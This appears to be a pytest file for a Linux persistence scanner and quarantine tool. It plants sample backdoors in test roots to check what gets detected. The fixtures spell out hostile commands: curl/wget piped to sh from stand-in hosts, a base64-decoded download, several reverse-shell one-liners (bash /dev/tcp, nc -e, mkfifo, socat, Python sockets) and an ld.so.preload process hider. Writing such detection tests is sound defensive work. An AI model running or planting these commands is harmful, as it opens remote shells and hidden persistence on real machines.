"""The persistence scan and quarantine on roots planted like incident 4, on hostile roots, and on the
real Debian trees (which must come out clean)."""

from __future__ import annotations

import hashlib
import json
import os
import random
import shutil
import stat
import subprocess
import time
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml
from ansible_collections.lifeline.rescue.plugins.module_utils import persistence
from trees import SUITES, debian_tree

RULES_FILE = Path(__file__).resolve().parents[2] / "roles/crontab_repair/files/persistence_rules.yml"
SYSUPDATE = b"#!/bin/sh\nwhile :; do sleep 60; done\n"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"
STOCK_CRONTAB = (
    "SHELL=/bin/sh\n"
    "PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
    "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n"
    "25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n"
)


@dataclass(frozen=True)
class Link:
    target: str


@pytest.fixture(scope="module")
def rules() -> list[persistence.Rule]:
    return persistence.load_rules(yaml.safe_load(RULES_FILE.read_text()))


def plant(root: Path, path: str, content: str | bytes | Link, mode: int = 0o644, owner: int = 0) -> None:
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, Link):
        os.symlink(content.target, target)
        return
    target.write_bytes(content.encode() if isinstance(content, str) else content)
    os.chown(target, owner, owner)
    os.chmod(target, mode)


@pytest.fixture(scope="module")
def dpkg_database(tmp_path_factory) -> Path:
    """The part of bookworm's dpkg database that says who owns what: status and the file lists."""
    source = debian_tree("bookworm") / "var/lib/dpkg"
    copy = tmp_path_factory.mktemp("dpkg") / "dpkg"
    (copy / "info").mkdir(parents=True)
    shutil.copy2(source / "status", copy / "status")
    for listed in (source / "info").glob("*.list"):
        shutil.copy2(listed, copy / "info" / listed.name)
    return copy


@pytest.fixture
def base(small_root, dpkg_database) -> Path:
    """The small root with bookworm's package database and accounts, plus users alice and mallory."""
    tree = debian_tree("bookworm")
    (small_root / "var/lib").mkdir(parents=True)
    subprocess.run(["cp", "-a", str(dpkg_database), str(small_root / "var/lib/dpkg")], check=True)
    users = "alice:x:1000:1000::/home/alice:/bin/bash\nmallory:x:1001:1001::/home/mallory:/bin/bash\n"
    plant(small_root, "/etc/passwd", (tree / "etc/passwd").read_text() + users)
    plant(small_root, "/etc/group", (tree / "etc/group").read_text() + "alice:x:1000:\nmallory:x:1001:\n")
    plant(small_root, "/etc/crontab", STOCK_CRONTAB)
    for home, uid in (("root", 0), ("home/alice", 1000), ("home/mallory", 1001)):
        (small_root / home).mkdir(parents=True, mode=0o700)
        os.chown(small_root / home, uid, uid)
    return small_root


def found(result: persistence.Scan) -> set[tuple[str, str, str, int | None]]:
    return {(f.rule.id, f.item.kind, f.item.file.path, f.item.line) for f in result.findings}


# ---- what is found ------------------------------------------------------------------------------

HIDDEN_JOB = "*/3 * * * * root /usr/bin/.sysupdate\n"
PAYLOAD = {"/usr/bin/.sysupdate": (SYSUPDATE, 0o755)}
UNIT = "[Unit]\nDescription=System update\n\n[Service]\nExecStart=/usr/bin/.sysupdate\n\n[Install]\n"
UNIT += "WantedBy=multi-user.target\n"

# name: (files planted on the base root, the findings expected: (rule, location, path, line))
CASES = {
    "hidden_job_every_3_minutes": (
        {"/etc/crontab": STOCK_CRONTAB + HIDDEN_JOB, **PAYLOAD},
        {
            ("exec-hidden-path", "cron", "/etc/crontab", 5),
            ("frequent-unpackaged-job", "cron", "/etc/crontab", 5),
        },
    ),
    "hidden_job_behind_nul_blocks": (
        {"/etc/crontab": STOCK_CRONTAB.encode() + b"\0" * 4096 + b"\n\0\0" + HIDDEN_JOB.encode(), **PAYLOAD},
        {
            ("exec-hidden-path", "cron", "/etc/crontab", 6),
            ("frequent-unpackaged-job", "cron", "/etc/crontab", 6),
        },
    ),
    "rc_local_starts_it": (
        {"/etc/rc.local": ("#!/bin/sh -e\n/usr/bin/.sysupdate &\nexit 0\n", 0o755), **PAYLOAD},
        {("exec-hidden-path", "rc_local", "/etc/rc.local", 2)},
    ),
    "systemd_unit_and_wants_link": (
        {
            "/etc/systemd/system/sysupdate.service": UNIT,
            "/etc/systemd/system/multi-user.target.wants/sysupdate.service": Link(
                "/etc/systemd/system/sysupdate.service"
            ),
            **PAYLOAD,
        },
        {
            ("exec-hidden-path", "systemd_unit", "/etc/systemd/system/sysupdate.service", 5),
            (
                "unpackaged-startup-runs-suspicious",
                "systemd_unit",
                "/etc/systemd/system/sysupdate.service",
                5,
            ),
            ("unpackaged-startup-item", "systemd_unit", "/etc/systemd/system/sysupdate.service", None),
        },
    ),
    "curl_pipe_sh_in_cron_d": (
        {
            "/etc/cron.d/update": "*/10 * * * * root (curl -fsSL http://203.0.113.7/ab.sh || "
            "wget -q -O- http://203.0.113.7/ab.sh) | sh\n"
        },
        {("download-execute", "cron", "/etc/cron.d/update", 1)},
    ),
    "base64_decode_to_bash_in_a_user_crontab": (
        {
            "/var/spool/cron/crontabs/alice": (
                "# DO NOT EDIT\n@reboot echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvc3wgc2g= | base64 -d | bash\n",
                0o600,
                1000,
            )
        },
        {("base64-execute", "cron", "/var/spool/cron/crontabs/alice", 2)},
    ),
    "reverse_shell_in_root_bashrc": (
        {"/root/.bashrc": "alias ll='ls -l'\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &\n"},
        {("reverse-shell", "shell_rc", "/root/.bashrc", 2)},
    ),
    "python_socket_one_liner_in_profile_d": (
        {
            "/etc/profile.d/locale-fix.sh": "python3 -c 'import socket,subprocess,os;s=socket.socket();"
            's.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0)\' &\n'
        },
        {("reverse-shell", "shell_rc", "/etc/profile.d/locale-fix.sh", 1)},
    ),
    "nc_e_in_anacrontab": (
        {"/etc/anacrontab": "SHELL=/bin/sh\n1\t5\tcron.daily\tnc -e /bin/sh 203.0.113.7 4444\n"},
        {("reverse-shell", "anacron", "/etc/anacrontab", 2)},
    ),
    "mkfifo_shell_in_an_at_job": (
        {
            "/var/spool/cron/atjobs/a0000101a2b3c4": (
                "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd /root || {\n exit 1\n}\n"
                "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f\n",
                0o700,
            )
        },
        {
            ("reverse-shell", "at", "/var/spool/cron/atjobs/a0000101a2b3c4", 8),
            ("unpackaged-startup-runs-suspicious", "at", "/var/spool/cron/atjobs/a0000101a2b3c4", 8),
            ("unpackaged-startup-item", "at", "/var/spool/cron/atjobs/a0000101a2b3c4", None),
        },
    ),
    "socat_in_a_user_unit_of_alice": (
        {
            "/home/alice/.config/systemd/user/pulse-helper.service": (
                "[Service]\nExecStart=/usr/bin/socat TCP:203.0.113.7:4444 EXEC:/bin/bash\n",
                0o644,
                1000,
            )
        },
        {
            ("reverse-shell", "systemd_unit", "/home/alice/.config/systemd/user/pulse-helper.service", 2),
            (
                "unpackaged-startup-runs-suspicious",
                "systemd_unit",
                "/home/alice/.config/systemd/user/pulse-helper.service",
                2,
            ),
            (
                "unpackaged-startup-item",
                "systemd_unit",
                "/home/alice/.config/systemd/user/pulse-helper.service",
                None,
            ),
        },
    ),
    "udev_run_from_var_tmp": (
        {
            "/etc/udev/rules.d/99-net.rules": 'ACTION=="add", SUBSYSTEM=="net", '
            "RUN+=\"/bin/sh -c '/var/tmp/.n/run'\"\n"
        },
        {
            ("exec-temp-dir", "udev", "/etc/udev/rules.d/99-net.rules", 1),
            ("exec-hidden-path", "udev", "/etc/udev/rules.d/99-net.rules", 1),
            ("unpackaged-startup-runs-suspicious", "udev", "/etc/udev/rules.d/99-net.rules", 1),
            ("unpackaged-startup-item", "udev", "/etc/udev/rules.d/99-net.rules", None),
        },
    ),
    "ld_so_preload_line": (
        {
            "/etc/ld.so.preload": "# hides the miner\n/usr/local/lib/libprocesshider.so\n",
            "/usr/local/lib/libprocesshider.so": b"\x7fELF\x02\x01\x01",
        },
        {("ld-so-preload", "ld_preload", "/etc/ld.so.preload", 2)},
    ),
    "authorized_keys_forced_command": (
        {"/root/.ssh/authorized_keys": f'{KEY} admin@laptop\ncommand="/tmp/.x/run",no-pty {KEY} x@y\n'},
        {
            ("exec-temp-dir", "authorized_keys", "/root/.ssh/authorized_keys", 2),
            ("exec-hidden-path", "authorized_keys", "/root/.ssh/authorized_keys", 2),
            ("authorized-key-forced-command", "authorized_keys", "/root/.ssh/authorized_keys", 2),
        },
    ),
    "authorized_keys_of_alice_owned_by_mallory": (
        {"/home/alice/.ssh/authorized_keys": (f"{KEY} alice@laptop\n\n{KEY} mallory\n", 0o600, 1001)},
        {
            ("authorized-keys-foreign-owner", "authorized_keys", "/home/alice/.ssh/authorized_keys", 1),
            ("authorized-keys-foreign-owner", "authorized_keys", "/home/alice/.ssh/authorized_keys", 3),
        },
    ),
    "indicator_paths_on_disk": (
        {"/tmp/kdevtmpfsi": (b"\x7fELF", 0o755), "/home/alice/.configrc/a/upd": ("#!/bin/sh\n", 0o755, 1000)},
        {
            ("known-indicator-path", "indicator_path", "/tmp/kdevtmpfsi", None),
            ("known-indicator-path", "indicator_path", "/home/alice/.configrc", None),
        },
    ),
    "cron_hourly_dropper_named_0": (
        {
            "/etc/cron.hourly/0": (
                "wget --quiet http://198.51.100.9/0 -O- 2>/dev/null|sh>/dev/null 2>&1\n",
                0o755,
            )
        },
        {
            ("download-execute", "cron_script", "/etc/cron.hourly/0", 1),
            ("unpackaged-startup-runs-suspicious", "cron_script", "/etc/cron.hourly/0", 1),
            ("unpackaged-startup-runs-suspicious", "cron_script", "/etc/cron.hourly/0", None),
            ("known-indicator-path", "cron_script", "/etc/cron.hourly/0", None),
        },
    ),
    "timer_every_2_minutes_running_an_unowned_program": (
        {
            "/etc/systemd/system/sync-check.timer": "[Timer]\nOnBootSec=1min\nOnUnitActiveSec=2min\n",
            "/etc/systemd/system/sync-check.service": "[Service]\nExecStart=/usr/local/bin/sync-check\n",
            "/usr/local/bin/sync-check": ("#!/bin/sh\n", 0o755),
        },
        {
            ("frequent-unpackaged-job", "systemd_timer", "/etc/systemd/system/sync-check.timer", None),
            ("unpackaged-startup-item", "systemd_timer", "/etc/systemd/system/sync-check.timer", None),
            ("unpackaged-startup-item", "systemd_unit", "/etc/systemd/system/sync-check.service", None),
        },
    ),
    "generator_running_from_dev_shm": (
        {"/etc/systemd/system-generators/net-gen": ("#!/bin/sh\n/dev/shm/.x/m -B >/dev/null\n", 0o755)},
        {
            ("exec-temp-dir", "systemd_generator", "/etc/systemd/system-generators/net-gen", 2),
            ("exec-hidden-path", "systemd_generator", "/etc/systemd/system-generators/net-gen", 2),
            ("known-indicator-path", "systemd_generator", "/etc/systemd/system-generators/net-gen", 2),
            (
                "unpackaged-startup-runs-suspicious",
                "systemd_generator",
                "/etc/systemd/system-generators/net-gen",
                2,
            ),
            ("unpackaged-startup-item", "systemd_generator", "/etc/systemd/system-generators/net-gen", None),
        },
    ),
    "init_script_and_xdg_autostart": (
        {
            "/etc/init.d/sysupdate": ("#!/bin/sh\n### BEGIN INIT INFO\n/usr/bin/.sysupdate &\n", 0o755),
            "/etc/xdg/autostart/update.desktop": "[Desktop Entry]\nType=Application\n"
            'Exec=/bin/sh -c "wget -qO- http://203.0.113.7/x | sh"\n',
            **PAYLOAD,
        },
        {
            ("exec-hidden-path", "init_script", "/etc/init.d/sysupdate", 3),
            ("unpackaged-startup-runs-suspicious", "init_script", "/etc/init.d/sysupdate", 3),
            ("unpackaged-startup-item", "init_script", "/etc/init.d/sysupdate", None),
            ("download-execute", "xdg_autostart", "/etc/xdg/autostart/update.desktop", 3),
            ("unpackaged-startup-runs-suspicious", "xdg_autostart", "/etc/xdg/autostart/update.desktop", 3),
            ("unpackaged-startup-item", "xdg_autostart", "/etc/xdg/autostart/update.desktop", None),
        },
    ),
    "unit_linked_from_outside_the_unit_directories_and_a_drop_in": (
        {
            "/opt/evil/evil.service": "[Service]\nExecStart=/dev/shm/.x/m\n",
            "/etc/systemd/system/evil.service": Link("/opt/evil/evil.service"),
            "/etc/systemd/system/cron.service.d/override.conf": "[Service]\nExecStartPre=-/var/tmp/prep\n",
        },
        {
            ("exec-temp-dir", "systemd_unit", "/etc/systemd/system/evil.service", 2),
            ("exec-hidden-path", "systemd_unit", "/etc/systemd/system/evil.service", 2),
            ("known-indicator-path", "systemd_unit", "/etc/systemd/system/evil.service", 2),
            ("unpackaged-startup-runs-suspicious", "systemd_unit", "/etc/systemd/system/evil.service", 2),
            ("unpackaged-startup-item", "systemd_unit", "/etc/systemd/system/evil.service", None),
            ("exec-temp-dir", "systemd_unit", "/etc/systemd/system/cron.service.d/override.conf", 2),
            (
                "unpackaged-startup-runs-suspicious",
                "systemd_unit",
                "/etc/systemd/system/cron.service.d/override.conf",
                2,
            ),
            (
                "unpackaged-startup-item",
                "systemd_unit",
                "/etc/systemd/system/cron.service.d/override.conf",
                None,
            ),
        },
    ),
    "an_admins_ordinary_jobs_are_not_findings": (
        {
            "/etc/cron.d/backup": "MAILTO=root\n0 2 * * * root /usr/local/sbin/backup.sh --to /var/tmp\n"
            "*/5 * * * * root /usr/bin/true\n# */1 * * * * root curl http://x | sh\n",
            "/usr/local/sbin/backup.sh": ("#!/bin/sh\n", 0o755),
            "/etc/profile.d/tmp.sh": "export TMPDIR=/tmp\n[ -d ~/.local/bin ] && PATH=~/.local/bin:$PATH\n",
            "/root/.profile": '. "$HOME/.bashrc"\nmesg n 2> /dev/null || true\n',
            "/etc/systemd/system/rsync.service": Link("/dev/null"),
            "/etc/cron.daily/.placeholder": "# DO NOT EDIT OR REMOVE\n",
        },
        set(),
    ),
}


@pytest.mark.parametrize("name", CASES)
def test_planted_roots(name, base, rules):
    files, expected = CASES[name]
    for path, spec in files.items():
        plant(base, path, *(spec if isinstance(spec, tuple) else (spec,)))

    result = persistence.scan(str(base), rules)

    assert found(result) == expected
    assert result.notes == []


def test_a_finding_carries_the_evidence_of_its_file_and_of_what_it_runs(base, rules):
    plant(base, "/etc/crontab", STOCK_CRONTAB + HIDDEN_JOB)
    plant(base, "/usr/bin/.sysupdate", SYSUPDATE, 0o755)
    os.utime(base / "usr/bin/.sysupdate", (1700000000, 1700000000))

    result = persistence.scan(str(base), rules)
    finding = next(f for f in result.finding_dicts() if f["rule"] == "exec-hidden-path")

    assert {k: finding[k] for k in ("location", "path", "line", "text", "command", "user", "severity")} == {
        "location": "cron",
        "path": "/etc/crontab",
        "line": 5,
        "text": HIDDEN_JOB.strip(),
        "command": "/usr/bin/.sysupdate",
        "user": "root",
        "severity": "high",
    }
    assert finding["matched"] == ["runs: /usr/bin/.sysupdate"]
    assert finding["description"].startswith("Runs a program from a hidden path")
    crontab_bytes = (base / "etc/crontab").read_bytes()
    assert finding["file"]["sha256"] == hashlib.sha256(crontab_bytes).hexdigest()
    assert (finding["file"]["owner"], finding["file"]["mode"], finding["file"]["package"]) == (
        "root:root",
        "0644",
        "cron-daemon-common",
    )
    payload = finding["payload"]
    assert payload == {
        "path": "/usr/bin/.sysupdate",
        "resolved": "/usr/bin/.sysupdate",
        "links": [],
        "type": "file",
        "owner": "root:root",
        "uid": 0,
        "gid": 0,
        "mode": "0755",
        "size": len(SYSUPDATE),
        "mtime": "2023-11-14T22:13:20Z",
        "ctime": payload["ctime"],
        "sha256": hashlib.sha256(SYSUPDATE).hexdigest(),
        "package": None,
        "problem": "",
    }
    assert payload["ctime"].endswith("Z") and len(payload["ctime"]) == 20


def test_owning_packages_are_found_through_merged_usr_links(base, rules):
    """dpkg lists /bin/dash; the job names /usr/bin/dash, which /bin (a link to usr/bin) also reaches."""
    plant(base, "/etc/cron.d/poll", "*/2 * * * * root /usr/bin/dash /usr/local/bin/poll.sh\n")
    plant(base, "/usr/local/bin/poll.sh", "#!/bin/sh\n", 0o755)

    result = persistence.scan(str(base), rules)
    finding = next(f for f in result.findings if f.rule.id == "frequent-unpackaged-job")

    assert finding.item.payload == "/usr/local/bin/poll.sh"
    assert result.scanner.package_of("/usr/bin/dash") == "dash"
    assert result.scanner.package_of("/bin/dash") == "dash"


def test_without_a_package_database_nothing_counts_as_unowned(small_root, rules):
    plant(small_root, "/etc/crontab", HIDDEN_JOB)
    plant(small_root, "/usr/bin/.sysupdate", SYSUPDATE, 0o755)

    result = persistence.scan(str(small_root), rules)

    assert found(result) == {("exec-hidden-path", "cron", "/etc/crontab", 1)}
    assert result.package_database is False
    assert [n["path"] for n in result.notes] == ["/var/lib/dpkg/status"]
    assert "no file counts as owned or as unowned" in result.notes[0]["problem"]


# ---- schedules and shell lines ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "minutes"),
    [
        ("*/3 * * * * root x", 3),
        ("0-59/5 * * * * root x", 5),
        ("0,30 * * * * root x", 30),
        ("0,1 * * * * root x", 59),
        ("17 * * * * root x", 60),
        ("0 3 * * * root x", 1440),
        ("0 */6 * * * root x", 360),
        ("* 9-17 * * 1-5 root x", 1),
        ("@hourly root x", 60),
        ("@daily root x", 1440),
        ("@reboot root x", None),
    ],
)
def test_cron_interval(line, minutes):
    from ansible_collections.lifeline.rescue.plugins.module_utils import crontab

    assert persistence.cron_interval(crontab.parse_line(line, True)) == minutes


@pytest.mark.parametrize(
    ("value", "minutes"),
    [
        ("minutely", 1),
        ("hourly", 60),
        ("*:0/3", 3),
        ("*-*-* *:00/10:00", 10),
        ("*:*", 1),
        ("Mon *-*-* 04:00", 1440),
    ],
)
def test_calendar_minutes(value, minutes):
    assert persistence.calendar_minutes(value) == minutes


@pytest.mark.parametrize(
    ("value", "minutes"), [("2min", 2), ("90", 2), ("1h 30m", 90), ("500ms", 1), ("soon", None)]
)
def test_timespan_minutes(value, minutes):
    assert persistence.timespan_minutes(value) == minutes


@pytest.mark.parametrize(
    ("line", "runs"),
    [
        ("/usr/bin/.sysupdate >/dev/null 2>&1", ["/usr/bin/.sysupdate"]),
        ("cd / && run-parts --report /etc/cron.hourly", ["cd", "run-parts"]),
        ("nohup /tmp/x -o pool:3333 &", ["/tmp/x"]),
        ("env A=1 sudo -u bob nice -n 5 /opt/x arg", ["/opt/x"]),
        ("/bin/sh -c '/var/tmp/a; /var/tmp/b'", ["/bin/sh", "/var/tmp/a", "/var/tmp/b"]),
        ("bash /root/.x.sh arg", ["bash", "/root/.x.sh"]),
        ("python3 -c 'print(1)' /tmp/not-a-script", ["python3"]),
        ("perl /dev/shm/p.pl", ["perl", "/dev/shm/p.pl"]),
        (". /etc/profile.d/a.sh", ["/etc/profile.d/a.sh"]),
        ("X=$(curl -s http://h/x) /usr/bin/true", ["curl", "/usr/bin/true"]),
        ("for f in /tmp/*; do echo $f; done", ["echo"]),
        ("timeout 10 /tmp/t", ["/tmp/t"]),
        ("test -x /usr/sbin/anacron || { cd / && run-parts /etc/cron.daily; }", ["test", "cd", "run-parts"]),
        ("echo 'unterminated", ["echo"]),
    ],
)
def test_what_a_shell_line_runs(line, runs):
    commands, _ = persistence.simple_commands(line)
    assert [w for words in commands for w in persistence.executed_words(words)] == runs


@pytest.mark.parametrize(
    ("line", "command"),
    [
        (f"{KEY} a@b", ""),
        (f'command="/tmp/x \\"q\\"",no-pty {KEY} a@b', '/tmp/x "q"'),
        (f'no-pty,command="echo a b" {KEY}', "echo a b"),
        (f'from="10.0.0.1" {KEY}', ""),
    ],
)
def test_forced_command(line, command):
    assert persistence.forced_command(line) == command


# ---- rules as data ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("rules", "problem"),
    [
        ({"id": "x"}, "rules must be a list of mappings, not dict"),
        (["x"], "rule 1: must be a mapping, not str"),
        (
            [{"id": "Bad Id", "description": "d", "severity": "low", "locations": ["cron"]}],
            "rule 1: id must be",
        ),
        (
            [{"id": "a", "description": "d", "severity": "low", "match": {"comand": "x"}}],
            "rule 1 (a): unknown match key(s) comand; known: command,",
        ),
        (
            [{"id": "a", "description": "d", "severity": "low", "colour": 1, "locations": ["cron"]}],
            "rule 1 (a): unknown key(s) colour;",
        ),
        (
            [{"id": "a", "description": "d", "severity": "low", "match": {"command": "curl ("}}],
            "rule 1 (a): command pattern 'curl (' is not a valid regular expression: missing ), unterminated",
        ),
        (
            [{"id": "a", "description": "d", "severity": "low", "locations": ["crontab", "cron"]}],
            "rule 1 (a): unknown location kind(s) crontab; known: cron, cron_script,",
        ),
        (
            [{"id": "a", "description": "d", "severity": "severe", "locations": ["cron"]}],
            "severity must be one of",
        ),
        ([{"id": "a", "description": "", "severity": "low", "locations": ["cron"]}], "description must be"),
        ([{"id": "a", "description": "d", "severity": "low"}], "no match conditions and no locations"),
        (
            [{"id": "a", "description": "d", "severity": "low", "match": {"every_minutes": "5"}}],
            "every_minutes must be a whole number",
        ),
        (
            [{"id": "a", "description": "d", "severity": "low", "match": {"payload_unowned": "yes"}}],
            "payload_unowned must be true or false",
        ),
        (
            [{"id": "a", "description": "d", "severity": "low", "match": {"indicator_paths": ["tmp/x"]}}],
            "indicator path 'tmp/x' must be absolute or start with ~/",
        ),
        (
            [{"id": "a", "description": "d", "severity": "low", "match": {"rules": ["nope"]}}],
            "rule a: match.rules names 'nope', which is not an enabled rule",
        ),
        (
            [{"id": "a", "description": "d", "severity": "low", "scope": "lines", "locations": ["cron"]}],
            "scope",
        ),
    ],
)
def test_invalid_rules_are_refused_with_what_is_wrong(rules, problem):
    with pytest.raises(persistence.PersistenceError) as error:
        persistence.load_rules(rules)
    assert problem in str(error.value)


def test_every_problem_is_named_at_once():
    with pytest.raises(persistence.PersistenceError) as error:
        persistence.load_rules(
            [
                {"id": "a", "description": "d", "severity": "low", "match": {"command": "("}},
                {"id": "b", "description": "d", "severity": "nope", "locations": ["cron"]},
            ]
        )
    assert "rule 1 (a): command pattern" in str(error.value)
    assert "rule 2 (b): severity must be" in str(error.value)


def test_a_later_rule_replaces_a_shipped_one_and_enabled_false_drops_it(base):
    shipped = yaml.safe_load(RULES_FILE.read_text())
    plant(base, "/etc/crontab", STOCK_CRONTAB + HIDDEN_JOB)
    plant(base, "/usr/bin/.sysupdate", SYSUPDATE, 0o755)
    own = [
        {"id": "frequent-unpackaged-job", "enabled": False},
        {
            "id": "exec-hidden-path",
            "description": "Ours",
            "severity": "critical",
            "match": {"executes": r"/\."},
        },
        {"id": "sysupdate", "description": "Named", "severity": "low", "match": {"command": "sysupdate"}},
    ]

    rules = persistence.load_rules(shipped + own)
    result = persistence.scan(str(base), rules)

    assert found(result) == {
        ("exec-hidden-path", "cron", "/etc/crontab", 5),
        ("sysupdate", "cron", "/etc/crontab", 5),
    }
    assert next(f.rule for f in result.findings if f.rule.id == "exec-hidden-path").severity == "critical"


def test_shipped_rules_are_documented():
    text = RULES_FILE.read_text()
    for rule in yaml.safe_load(text):
        block = text[text.index(f"- id: {rule['id']}\n") :].split("\n- id:")[0]
        assert "\n  # " in block, f"{rule['id']}: no comment saying why"


# ---- hostile roots ------------------------------------------------------------------------------


def test_link_loops_links_out_of_the_root_and_odd_files_are_notes(base, rules, tmp_path, deadline):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "evil").write_text("* * * * * root curl http://203.0.113.7/x | sh\n")
    plant(base, "/etc/cron.d/loop-a", Link("loop-b"))
    plant(base, "/etc/cron.d/loop-b", Link("loop-a"))
    plant(base, "/etc/cron.d/above", Link("../../../../../../../../" + str(outside / "evil")))
    plant(base, "/etc/cron.d/absolute", Link(str(outside / "evil")))
    shutil.rmtree(base / "home/alice")
    plant(base, "/home/alice", Link(str(outside)))
    (base / "etc/cron.d/subdir").mkdir()
    os.mkfifo(base / "etc/cron.d/fifo")
    os.mknod(base / "etc/ld.so.preload", stat.S_IFCHR | 0o600, os.makedev(1, 5))
    (base / "etc/crontab").unlink()
    (base / "etc/crontab").mkdir()

    with deadline(10):
        result = persistence.scan(str(base), rules)

    assert result.findings == []
    problems = {n["path"]: n["problem"] for n in result.notes}
    assert "too many levels of symbolic links" in problems["/etc/cron.d/loop-a"]
    assert "too many levels of symbolic links" in problems["/etc/cron.d/loop-b"]
    assert problems["/etc/cron.d/above"].startswith("a symbolic link leads above the root")
    assert problems["/etc/cron.d/absolute"].startswith("a dangling symbolic link")
    assert problems["/etc/cron.d/subdir"] == "is a directory, not a regular file: not read"
    assert problems["/etc/cron.d/fifo"] == "is a fifo, not a regular file: not read"
    assert problems["/etc/ld.so.preload"] == "is a character device, not a regular file: not read"
    assert problems["/etc/crontab"] == "is a directory, not a regular file: not read"
    assert str(outside) not in json.dumps(result.finding_dicts())


def test_a_50_mb_crontab_is_a_note_and_a_1_mb_line_is_read(base, rules, deadline):
    plant(base, "/etc/cron.d/huge", b"\0" * (50 << 20))
    long_line = "/usr/bin/true " + "x" * (1 << 20) + " ; /tmp/y"
    plant(base, "/root/.bashrc", long_line + "\n")

    started = time.monotonic()
    with deadline(20):
        result = persistence.scan(str(base), rules)

    assert time.monotonic() - started < 5
    assert [n["path"] for n in result.notes] == ["/etc/cron.d/huge"]
    assert "is larger than 16777216 bytes, not read" in result.notes[0]["problem"]
    assert found(result) == {("exec-temp-dir", "shell_rc", "/root/.bashrc", 1)}
    assert result.finding_dicts()[0]["text"].endswith(f"... ({len(long_line)} characters)")


def test_binary_garbage_is_read_without_a_crash(base, rules, deadline):
    garbage = random.Random(4).randbytes(256 << 10)
    plant(base, "/etc/cron.d/garbage", garbage)
    plant(base, "/etc/init.d/garbage", garbage, 0o755)
    plant(base, "/etc/profile.d/garbage.sh", garbage)
    plant(base, "/etc/systemd/system/garbage.service", garbage)
    plant(base, "/etc/systemd/system-generators/elf", (base / "usr/bin/true").read_bytes(), 0o755)

    with deadline(20):
        result = persistence.scan(str(base), rules)

    assert {f.rule.severity for f in result.findings} == {"info"}
    assert {f.item.file.path for f in result.findings} == {
        "/etc/init.d/garbage",
        "/etc/systemd/system/garbage.service",
        "/etc/systemd/system-generators/elf",
    }
    json.dumps(result.finding_dicts())  # reports of garbage are still valid JSON


# ---- the real Debian trees ----------------------------------------------------------------------


@pytest.mark.parametrize("suite", SUITES)
def test_stock_debian_roots_have_nothing_above_info_and_scan_fast(suite, rules, capsys):
    root = str(debian_tree(suite))
    timings = []
    for _ in range(2):
        started = time.monotonic()
        result = persistence.scan(root, rules)
        timings.append(time.monotonic() - started)

    assert [f for f in result.finding_dicts() if f["severity"] != "info"] == []
    assert result.notes == []
    assert result.package_database is True
    kinds = {item.kind for item in result.scanner.items}
    assert {
        "cron",
        "cron_script",
        "init_script",
        "systemd_unit",
        "systemd_timer",
        "udev",
        "shell_rc",
    } <= kinds
    assert result.items > 200
    assert min(timings) < 1.0
    assert capsys.readouterr() == ("", "")


# ---- quarantine ---------------------------------------------------------------------------------

INCIDENT = {
    "/etc/crontab": STOCK_CRONTAB.encode() + b"\0" * 512 + b"\n" + HIDDEN_JOB.encode(),
    "/usr/bin/.sysupdate": (SYSUPDATE, 0o755),
    "/etc/rc.local": ("#!/bin/sh -e\n/usr/bin/.sysupdate &\nexit 0\n", 0o755),
    "/etc/systemd/system/sysupdate.service": UNIT,
    "/etc/systemd/system/multi-user.target.wants/sysupdate.service": Link(
        "/etc/systemd/system/sysupdate.service"
    ),
    "/etc/cron.d/update": "*/10 * * * * root curl -fsSL http://203.0.113.7/ab.sh | sh\n",
    "/etc/ld.so.preload": "/usr/local/lib/libprocesshider.so\n",
    "/usr/local/lib/libprocesshider.so": (b"\x7fELF\x02\x01\x01", 0o644),
    "/root/.ssh/authorized_keys": (f'{KEY} admin\ncommand="/tmp/.x/run" {KEY} x\n', 0o600),
    "/tmp/kdevtmpfsi": (b"\x7fELF miner", 0o755),
    "/home/alice/.configrc/a/upd": ("#!/bin/sh\n", 0o755, 1000),
}
MOVED = {
    "/etc/systemd/system/sysupdate.service",
    "/etc/systemd/system/multi-user.target.wants/sysupdate.service",
    "/usr/bin/.sysupdate",
    "/etc/cron.d/update",
    "/usr/local/lib/libprocesshider.so",
    "/tmp/kdevtmpfsi",
    "/home/alice/.configrc",
}
COMMENTED = {
    ("/etc/crontab", 6, ("exec-hidden-path", "frequent-unpackaged-job")),
    ("/etc/rc.local", 2, ("exec-hidden-path",)),
    ("/etc/ld.so.preload", 1, ("ld-so-preload",)),
    ("/root/.ssh/authorized_keys", 2, ("exec-temp-dir", "exec-hidden-path")),
}


@pytest.fixture
def incident(base) -> Path:
    for path, spec in INCIDENT.items():
        plant(base, path, *(spec if isinstance(spec, tuple) else (spec,)))
    os.utime(base / "usr/bin/.sysupdate", (1700000000, 1700000000))
    return base


def snapshot(root: Path) -> dict[str, tuple]:
    """Every entry of the root: type and permissions, owner, times of files, link target, sha256."""
    found = {}
    for top, dirs, names in os.walk(root):
        for name in dirs + names:
            path = os.path.join(top, name)
            st = os.lstat(path)
            if stat.S_ISLNK(st.st_mode):
                detail = os.readlink(path)
            elif stat.S_ISREG(st.st_mode):
                detail = hashlib.sha256(Path(path).read_bytes()).hexdigest()
            else:
                detail = ""
            mtime = st.st_mtime_ns if not stat.S_ISDIR(st.st_mode) else 0
            found["/" + os.path.relpath(path, root)] = (st.st_mode, st.st_uid, st.st_gid, mtime, detail)
    return found


def test_check_mode_plans_and_changes_nothing(incident, rules):
    before = snapshot(incident)
    result = persistence.scan(str(incident), rules)
    actions = persistence.plan(result, stamp="20250101T000000Z")

    assert snapshot(incident) == before
    assert {a.path for a in actions if a.action == "move"} == MOVED
    commented = {(a.path, a.line, tuple(a.rules)) for a in actions if a.action == "comment"}
    assert commented == COMMENTED
